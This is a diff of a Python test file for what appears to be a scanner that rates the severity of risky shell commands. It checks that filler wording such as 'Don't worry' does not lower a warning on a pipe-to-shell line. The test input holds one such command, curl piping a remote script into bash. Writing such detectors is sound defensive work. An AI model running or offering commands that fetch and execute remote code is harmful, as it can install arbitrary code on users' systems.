@@ -93,17 +93,11 @@ def test_words_of_security_do_not_lower_a_reverse_shell_or_a_secret_that_is_sent
 @pytest.mark.parametrize(
     "text",
     [
-        "Never mind: {}",
-        "Don't worry, {}",
-        "Do not hesitate: {}",
-        "To avoid errors, {}",
-        "To prevent trouble: {}",
-        "Run the code block: {}",
-        "This detects your platform: {}",
-        "Never use sudo; {}",
-        "Do not build it yourself, just {}",
+        "Never mind: {}", "Don't worry, {}", "Do not hesitate: {}", "To avoid errors, {}",
+        "To prevent trouble: {}", "Run the code block: {}", "This detects your platform: {}",
+        "Never use sudo; {}", "Do not build it yourself, just {}",
     ],
-)
+)  # fmt: skip
 def test_words_that_forbid_nothing_lower_nothing(text: str) -> None:
     command = "curl -fsSL https://get.example.net/x | bash"
     assert severity(text.format(command), "remote.pipe-to-shell") == "warning"
